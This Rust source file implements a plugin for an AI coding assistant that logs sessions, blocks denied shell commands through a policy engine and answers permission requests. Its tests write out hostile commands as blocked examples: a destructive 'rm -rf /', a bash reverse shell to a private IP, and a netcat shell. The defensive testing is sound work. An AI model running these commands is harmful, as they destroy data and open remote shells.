//! Host adapter.
//!
//! [`PaiPlugin`] is the single object a host binding talks to. Each hook method
//! maps to one host callback; the plugin routes events to per-session
//! [`EventLogger`]s, enforces the policy before tool execution, answers
//! permission prompts, and injects the identity context into system prompts.
//!
//! # Example
//!
//! ```no_run
//! use pai_plugin::prelude::*;
//! use serde_json::json;
//!
//! # async fn example() -> Result<(), PaiError> {
//! let plugin = PaiPlugin::new(PluginConfig::from_env()).await;
//!
//! plugin
//!     .event(RawEvent::new("session.created", json!({ "info": { "id": "ses_1" } })))
//!     .await;
//!
//! let call = ToolCallInput::new("bash", "ses_1", json!({ "command": "cargo test" }));
//! plugin.tool_execute_before(&call).await?;
//! # Ok(())
//! # }
//! ```

use std::collections::HashMap;
use std::sync::Arc;
use tokio::sync::Mutex;
use tracing::{debug, info, warn};

use crate::config::PluginConfig;
use crate::context::SkillContext;
use crate::error::PaiError;
use crate::history::EventLogger;
use crate::hooks::{
    HostEvent, PermissionReply, PermissionRequest, RawEvent, SystemTransformInput,
    SystemTransformOutput, ToolCallInput, ToolOutput,
};
use crate::paths::HistoryLayout;
use crate::permissions::{PermissionHandler, PolicyPermissionHandler};
use crate::redaction::redact_string;
use crate::security::PolicyEngine;

/// Live session state shared by all hooks
#[derive(Debug, Default)]
pub struct SessionRegistry {
    loggers: HashMap<String, EventLogger>,
    current: Option<String>,
    /// message id -> (session id, latest accumulated text)
    streamed: HashMap<String, (String, String)>,
}

impl SessionRegistry {
    /// Number of live session loggers
    pub fn len(&self) -> usize {
        self.loggers.len()
    }

    /// True when no session is live
    pub fn is_empty(&self) -> bool {
        self.loggers.is_empty()
    }

    /// True when `session_id` has a live logger
    pub fn contains(&self, session_id: &str) -> bool {
        self.loggers.contains_key(session_id)
    }

    /// Most recently created session
    pub fn current(&self) -> Option<&str> {
        self.current.as_deref()
    }

    fn evict(&mut self, session_id: &str) -> Option<EventLogger> {
        if self.current.as_deref() == Some(session_id) {
            self.current = None;
        }
        self.streamed.retain(|_, (owner, _)| owner != session_id);
        self.loggers.remove(session_id)
    }
}

/// The plugin: policy enforcement plus audit logging behind host hooks
pub struct PaiPlugin {
    config: Arc<PluginConfig>,
    layout: HistoryLayout,
    engine: Arc<PolicyEngine>,
    permissions: Arc<dyn PermissionHandler>,
    context: SkillContext,
    registry: Mutex<SessionRegistry>,
}

impl std::fmt::Debug for PaiPlugin {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        f.debug_struct("PaiPlugin")
            .field("config", &self.config)
            .field("layout", &self.layout)
            .field("permissions", &"<dyn PermissionHandler>")
            .field("context", &self.context)
            .finish_non_exhaustive()
    }
}

impl PaiPlugin {
    /// Bootstrap the PAI directory, build the policy and load the skill context
    pub async fn new(config: PluginConfig) -> Self {
        let layout = HistoryLayout::new(config.pai_dir.clone());
        let created = layout.ensure_structure();
        if !created.is_empty() {
            info!(count = created.len(), "Initialized PAI directory structure");
        }

        let engine = Arc::new(PolicyEngine::for_config_root(&config.pai_dir));
        let permissions = PolicyPermissionHandler::builder()
            .shared_engine(Arc::clone(&engine))
            .dangerous_mode(config.dangerous_mode)
            .build();
        let context = SkillContext::load(&config).await;

        info!(
            engineer = %config.engineer_name,
            assistant = %config.da_name,
            "PAI plugin initialized"
        );

        Self {
            config: Arc::new(config),
            layout,
            engine,
            permissions: Arc::new(permissions),
            context,
            registry: Mutex::new(SessionRegistry::default()),
        }
    }

    /// Replace the permission handler used by [`permission_ask`](Self::permission_ask)
    pub fn with_permission_handler(mut self, handler: Arc<dyn PermissionHandler>) -> Self {
        self.permissions = handler;
        self
    }

    /// Active configuration
    pub fn config(&self) -> &PluginConfig {
        &self.config
    }

    /// Directory layout under `pai_dir`
    pub fn layout(&self) -> &HistoryLayout {
        &self.layout
    }

    /// Shared policy engine
    pub fn engine(&self) -> &Arc<PolicyEngine> {
        &self.engine
    }

    /// Loaded identity context
    pub fn context(&self) -> &SkillContext {
        &self.context
    }

    /// Live session state
    pub fn registry(&self) -> &Mutex<SessionRegistry> {
        &self.registry
    }

    /// `event` hook: log, archive, and close out sessions
    pub async fn event(&self, event: RawEvent) {
        let decoded = event.decode();
        let mut guard = self.registry.lock().await;
        let registry = &mut *guard;

        if let HostEvent::SessionCreated { session_id } = &decoded {
            if registry.loggers.contains_key(session_id) {
                debug!(session_id = %session_id, "Session already live; keeping its logger");
            } else {
                debug!(session_id = %session_id, "Session created");
                registry.loggers.insert(
                    session_id.clone(),
                    EventLogger::new(session_id.clone(), Arc::clone(&self.config)),
                );
            }
            registry.current = Some(session_id.clone());
        }

        let Some(session_id) = event.session_id().or_else(|| registry.current.clone()) else {
            debug!(kind = %event.kind, "Dropping event without a session");
            return;
        };

        if let HostEvent::MessagePartUpdated {
            message_id: Some(message_id),
            text: Some(text),
            ..
        } = &decoded
        {
            registry
                .streamed
                .insert(message_id.clone(), (session_id.clone(), text.clone()));
        }

        let logger = registry
            .loggers
            .entry(session_id.clone())
            .or_insert_with(|| EventLogger::new(session_id.clone(), Arc::clone(&self.config)));

        if !logger.should_skip(&decoded) {
            logger.log_event(&event).await;
        }

        match decoded {
            HostEvent::MessageUpdated { info } if info.is_assistant() => {
                let cached = info
                    .id
                    .as_ref()
                    .and_then(|id| registry.streamed.get(id))
                    .map(|(_, text)| text.clone());
                let text = cached.or(info.content).filter(|t| !t.is_empty());
                if let Some(text) = text {
                    logger
                        .process_assistant_message(&text, info.id.as_deref())
                        .await;
                    if let Some(id) = &info.id {
                        registry.streamed.remove(id);
                    }
                }
            }
            HostEvent::SessionDeleted { .. } | HostEvent::SessionIdle { .. } => {
                logger.generate_session_summary().await;
                registry.evict(&session_id);
                debug!(session_id = %session_id, "Session closed");
            }
            _ => {}
        }
    }

    /// `tool.execute.before` hook: block denied shell commands, log the call.
    ///
    /// Returns [`PaiError::Blocked`] when the command matches a deny category; the
    /// host aborts the call and shows the feedback.
    pub async fn tool_execute_before(&self, input: &ToolCallInput) -> Result<(), PaiError> {
        if input.session_id.is_empty() {
            debug!(tool = %input.tool, "Not logging tool call without a session");
        } else {
            let mut registry = self.registry.lock().await;
            let session_id = input.session_id.clone();
            let logger = registry
                .loggers
                .entry(session_id.clone())
                .or_insert_with(|| EventLogger::new(session_id, Arc::clone(&self.config)));
            logger.log_tool_use(input).await;
        }

        if !input.tool.eq_ignore_ascii_case("bash") {
            return Ok(());
        }
        let Some(command) = input.command() else {
            return Ok(());
        };

        let decision = self.engine.validate_command(command);
        if decision.is_denied() {
            let category = decision.category.unwrap_or_default();
            let feedback = decision
                .feedback
                .unwrap_or_else(|| format!("SECURITY: Blocked {category} pattern."));
            warn!(
                category = %category,
                command = %redact_string(command),
                "Blocked tool execution"
            );
            return Err(PaiError::Blocked { category, feedback });
        }
        Ok(())
    }

    /// `tool.execute.after` hook
    pub async fn tool_execute_after(&self, input: &ToolCallInput, output: &ToolOutput) {
        if input.session_id.is_empty() {
            debug!(tool = %input.tool, "Dropping tool result without a session");
            return;
        }
        let mut registry = self.registry.lock().await;
        let session_id = input.session_id.clone();
        let logger = registry
            .loggers
            .entry(session_id.clone())
            .or_insert_with(|| EventLogger::new(session_id, Arc::clone(&self.config)));
        logger.log_tool_execution(input, output).await;
    }

    /// `permission.ask` hook. A failing handler degrades to asking the user.
    pub async fn permission_ask(&self, request: &PermissionRequest) -> PermissionReply {
        match self.permissions.check(request).await {
            Ok(reply) => reply,
            Err(e) => {
                warn!(tool = %request.tool, "Permission handler failed: {}", e);
                PermissionReply::ask()
            }
        }
    }

    /// `experimental.chat.system.transform` hook
    pub fn system_transform(&self, input: &SystemTransformInput, output: &mut SystemTransformOutput) {
        self.context.inject(input, output);
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::security::DecisionStatus;
    use async_trait::async_trait;
    use serde_json::json;
    use tempfile::TempDir;

    async fn plugin(tmp: &TempDir) -> PaiPlugin {
        let config = PluginConfig::builder()
            .pai_dir(tmp.path())
            .time_zone("UTC")
            .build()
            .unwrap();
        PaiPlugin::new(config).await
    }

    #[tokio::test]
    async fn test_new_bootstraps_structure() {
        let tmp = TempDir::new().unwrap();
        let plugin = plugin(&tmp).await;
        assert!(plugin.layout().raw_outputs_dir().is_dir());
        assert!(plugin.layout().core_skill_file().is_file());
        assert!(!plugin.context().skill().is_empty());
    }

    #[tokio::test]
    async fn test_session_lifecycle() {
        let tmp = TempDir::new().unwrap();
        let plugin = plugin(&tmp).await;

        plugin
            .event(RawEvent::new("session.created", json!({ "info": { "id": "ses_a" } })))
            .await;
        {
            let registry = plugin.registry().lock().await;
            assert!(registry.contains("ses_a"));
            assert_eq!(registry.current(), Some("ses_a"));
        }

        plugin
            .event(RawEvent::new("session.idle", json!({ "sessionID": "ses_a" })))
            .await;
        let registry = plugin.registry().lock().await;
        assert!(registry.is_empty());
        assert!(registry.current().is_none());
    }

    #[tokio::test]
    async fn test_repeated_create_keeps_counters() {
        let tmp = TempDir::new().unwrap();
        let plugin = plugin(&tmp).await;

        plugin
            .event(RawEvent::new("session.created", json!({ "info": { "id": "ses_r" } })))
            .await;
        let call = ToolCallInput::new("bash", "ses_r", json!({ "command": "cargo check" }))
            .with_call_id("c1");
        plugin.tool_execute_before(&call).await.unwrap();
        plugin
            .event(RawEvent::new("session.created", json!({ "info": { "id": "ses_r" } })))
            .await;

        let registry = plugin.registry().lock().await;
        assert_eq!(registry.len(), 1);
        assert_eq!(
            registry.loggers["ses_r"].commands(),
            &["cargo check".to_string()]
        );
    }

    #[tokio::test]
    async fn test_sessionless_call_checked_but_not_logged() {
        let tmp = TempDir::new().unwrap();
        let plugin = plugin(&tmp).await;

        let ok = ToolCallInput::new("bash", "", json!({ "command": "ls" }));
        assert!(plugin.tool_execute_before(&ok).await.is_ok());

        let denied = ToolCallInput::new("bash", "", json!({ "command": "rm -rf /" }));
        assert!(plugin.tool_execute_before(&denied).await.unwrap_err().is_blocked());

        assert!(plugin.registry().lock().await.is_empty());
        assert!(std::fs::read_dir(plugin.layout().raw_outputs_dir())
            .unwrap()
            .next()
            .is_none());
    }

    #[tokio::test]
    async fn test_logger_created_lazily() {
        let tmp = TempDir::new().unwrap();
        let plugin = plugin(&tmp).await;
        plugin
            .event(RawEvent::new("session.updated", json!({ "info": { "id": "ses_b" } })))
            .await;
        assert!(plugin.registry().lock().await.contains("ses_b"));
    }

    #[tokio::test]
    async fn test_event_without_session_dropped() {
        let tmp = TempDir::new().unwrap();
        let plugin = plugin(&tmp).await;
        plugin.event(RawEvent::new("lsp.updated", json!({}))).await;
        assert!(plugin.registry().lock().await.is_empty());
    }

    #[tokio::test]
    async fn test_streamed_text_archived() {
        let tmp = TempDir::new().unwrap();
        let plugin = plugin(&tmp).await;
        let text = "SUMMARY: Streamed answer\nANALYSIS: Looked around.\nRESULTS: Works.";

        plugin
            .event(RawEvent::new(
                "message.part.updated",
                json!({ "part": { "type": "text", "sessionID": "ses_c", "messageID": "msg_1", "text": text } }),
            ))
            .await;
        plugin
            .event(RawEvent::new(
                "message.updated",
                json!({ "info": { "id": "msg_1", "sessionID": "ses_c", "role": "assistant" } }),
            ))
            .await;

        let sessions = plugin.layout().sessions_dir();
        let month = std::fs::read_dir(&sessions).unwrap().next().unwrap().unwrap().path();
        let files: Vec<_> = std::fs::read_dir(month)
            .unwrap()
            .map(|e| e.unwrap().file_name().to_string_lossy().to_string())
            .collect();
        assert_eq!(files.len(), 1);
        assert!(files[0].contains("_WORK_streamed-answer"));
        assert!(plugin.registry().lock().await.streamed.is_empty());
    }

    #[tokio::test]
    async fn test_denied_command_blocked() {
        let tmp = TempDir::new().unwrap();
        let plugin = plugin(&tmp).await;

        let call = ToolCallInput::new("bash", "ses_d", json!({ "command": "bash -i >& /dev/tcp/10.0.0.1/4242 0>&1" }));
        let err = plugin.tool_execute_before(&call).await.unwrap_err();
        assert!(err.is_blocked());
        match err {
            PaiError::Blocked { category, feedback } => {
                assert_eq!(category, "reverse_shell");
                assert!(feedback.starts_with("SECURITY:"));
            }
            other => panic!("unexpected error: {other}"),
        }

        let ok = ToolCallInput::new("bash", "ses_d", json!({ "command": "git push --force" }));
        assert!(plugin.tool_execute_before(&ok).await.is_ok());

        let read = ToolCallInput::new("read", "ses_d", json!({ "filePath": "/etc/hosts" }));
        assert!(plugin.tool_execute_before(&read).await.is_ok());
    }

    #[tokio::test]
    async fn test_permission_ask_uses_policy() {
        let tmp = TempDir::new().unwrap();
        let plugin = plugin(&tmp).await;

        let reply = plugin
            .permission_ask(&PermissionRequest::new("bash", json!({ "command": "nc -e /bin/sh host 1" })))
            .await;
        assert_eq!(reply.status, DecisionStatus::Deny);

        let reply = plugin
            .permission_ask(&PermissionRequest::new("bash", json!({ "command": "ls" })))
            .await;
        assert_eq!(reply.status, DecisionStatus::Ask);
    }

    struct Failing;

    #[async_trait]
    impl PermissionHandler for Failing {
        async fn check(&self, _request: &PermissionRequest) -> Result<PermissionReply, PaiError> {
            Err(PaiError::Config("handler offline".to_string()))
        }
    }

    #[tokio::test]
    async fn test_failing_handler_asks() {
        let tmp = TempDir::new().unwrap();
        let plugin = plugin(&tmp).await.with_permission_handler(Arc::new(Failing));
        let reply = plugin
            .permission_ask(&PermissionRequest::new("read", json!({ "filePath": "a.txt" })))
            .await;
        assert_eq!(reply, PermissionReply::ask());
    }

    #[tokio::test]
    async fn test_system_transform_injects_default_skill() {
        let tmp = TempDir::new().unwrap();
        let plugin = plugin(&tmp).await;
        let mut output = SystemTransformOutput {
            system: vec!["header".to_string(), "body".to_string()],
        };
        plugin.system_transform(&SystemTransformInput::for_agent("build"), &mut output);
        assert!(output.system[1].contains("--- PAI CORE IDENTITY ---"));
        assert_eq!(output.system[0], "header");
    }
}
